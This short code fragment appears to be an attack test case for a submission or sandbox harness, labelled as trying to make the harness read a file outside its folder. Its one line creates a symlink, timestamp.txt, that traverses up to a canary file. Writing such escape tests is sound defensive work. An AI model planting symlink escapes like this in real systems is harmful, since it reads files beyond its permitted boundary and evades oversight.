# /// attack
# does = "has the time of receipt read from a file of the machine"
# wall = "folder"
# ///
# %% hand in
(folder / "timestamp.txt").symlink_to("../../../canary.txt")
